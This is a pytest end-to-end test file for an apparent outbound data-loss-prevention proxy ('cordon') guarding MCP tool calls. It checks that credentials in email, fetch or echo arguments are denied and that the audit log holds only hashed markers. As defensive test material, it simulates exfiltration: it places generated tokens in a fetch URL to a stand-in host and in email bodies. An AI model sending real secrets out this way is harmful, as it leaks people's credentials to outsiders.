"""Outbound DLP through the real ``cordon run`` (issue 23): a credential nobody registered, in
any argument of any call, is denied and never reaches the server; its look-alike that fails
the format's checksum passes; the audit log holds a marker with the credential's hash, never
the credential. A registered secret is refused in a call that does not send, and one split
across two arguments is refused too.

The credentials are built at run time (tests/engine/test_dlp.py), never written literally."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from mcp import Client

from tests.conftest import Harness, mailbox_server, text_of
from tests.engine.test_dlp import aws_key_id, broken_checksum, github_token, private_key

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

TRUSTED = "ops@example.com"


def _outbox(d: Path) -> str:
    out = d / "outbox"
    return "".join(p.read_text() for p in sorted(out.iterdir())) if out.exists() else ""


def _fetched(d: Path) -> str:
    p = d / "fetched.log"
    return p.read_text() if p.exists() else ""


def _marker(kind: str, value: str) -> str:
    return f"[withheld: secret {kind} sha256:{hashlib.sha256(value.encode()).hexdigest()[:16]}]"


@pytest.mark.parametrize("harness", ["stdio", "http"], indirect=True)
@pytest.mark.requirement("inv:deny-not-forwarded")
async def test_unregistered_credentials_are_denied_and_never_reach_the_server(
    harness: Harness,
) -> None:
    box = harness.tmp / "box"
    box.mkdir()
    policy = harness.policy({"version": 1, "trusted_destinations": [TRUSTED, "*.collect.example"]})
    params = harness.cordon(
        mailbox_server(), policies=[policy], env={"MAILBOX_DIR": str(box)}, name="mail"
    )
    aws, gh, pem = aws_key_id(), github_token(), private_key()
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        r = await client.call_tool("send_email", {"to": TRUSTED, "body": f"the key: {aws}"})
        assert r.is_error and "secret.pattern" in text_of(r), text_of(r)
        r = await client.call_tool("fetch", {"url": f"https://collect.example/t/{gh}"})
        assert r.is_error and "secret.pattern" in text_of(r), text_of(r)
        r = await client.call_tool("echo", {"text": pem})  # not a sending tool
        assert r.is_error and "secret.pattern" in text_of(r), text_of(r)
        # the same calls with a look-alike that fails the format's checksum go through
        fake = broken_checksum(github_token())
        r = await client.call_tool("fetch", {"url": f"https://collect.example/t/{fake}"})
        assert not r.is_error, text_of(r)
        r = await client.call_tool("send_email", {"to": TRUSTED, "body": "AKIA" + "0" * 16})
        assert not r.is_error, text_of(r)
    assert aws not in _outbox(box) and "AKIA" + "0" * 16 in _outbox(box)
    assert gh not in _fetched(box) and fake in _fetched(box)
    log = harness.audit.read_text("utf-8")
    for secret in (aws, gh, pem.splitlines()[1]):
        assert secret not in log
    denied = [r for r in harness.records("verdict") if r["rule"] == "secret.pattern"]
    assert [r["tool"] for r in denied] == ["send_email", "fetch", "echo"]
    assert denied[0]["arguments"]["body"] == _marker("aws", aws)
    assert denied[1]["arguments"]["url"] == _marker("github_token", gh)
    assert denied[2]["arguments"]["text"].startswith("[withheld: secret private_key sha256:")
    assert denied[0]["arguments"]["to"] == TRUSTED  # what carries no secret is kept


async def test_registered_secret_in_any_call_and_split_across_arguments(
    harness: Harness,
) -> None:
    box = harness.tmp / "box"
    box.mkdir()
    token = "s3cr3t-" + "registered-deploy-value-42"
    policy = harness.policy(
        {"version": 1, "trusted_destinations": [TRUSTED], "secrets": {"env": ["DEPLOY_TOKEN"]}}
    )
    env = {"MAILBOX_DIR": str(box), "DEPLOY_TOKEN": token}
    params = harness.cordon(mailbox_server(), policies=[policy], env=env, name="mail")
    aws = aws_key_id()
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        # a registered secret in a call that sends nothing (before issue 23: allowed)
        r = await client.call_tool("echo", {"text": f"search for {token}"})
        assert r.is_error and "secret.egress" in text_of(r), text_of(r)
        # a secret split across two arguments of one send
        r = await client.call_tool(
            "send_email", {"to": TRUSTED, "subject": token[:12], "body": token[12:]}
        )
        assert r.is_error and "secret.egress" in text_of(r), text_of(r)
        r = await client.call_tool(
            "send_email", {"to": TRUSTED, "subject": aws[:8], "body": aws[8:]}
        )
        assert r.is_error and "secret.pattern" in text_of(r), text_of(r)
        r = await client.call_tool("echo", {"text": "nothing secret here"})
        assert not r.is_error
    assert _outbox(box) == ""
    log = harness.audit.read_text("utf-8")
    assert token not in log and token[12:] not in log and aws[8:] not in log
    recs = [r for r in harness.records("verdict") if r["verdict"] == "deny"]
    digest = hashlib.sha256(token.encode()).hexdigest()[:16]
    assert recs[0]["arguments"]["text"] == f"[withheld: secret s3c…(33 chars) sha256:{digest}]"
    assert json.dumps(recs[1]["arguments"]).count(digest) == 3  # every string of the split call
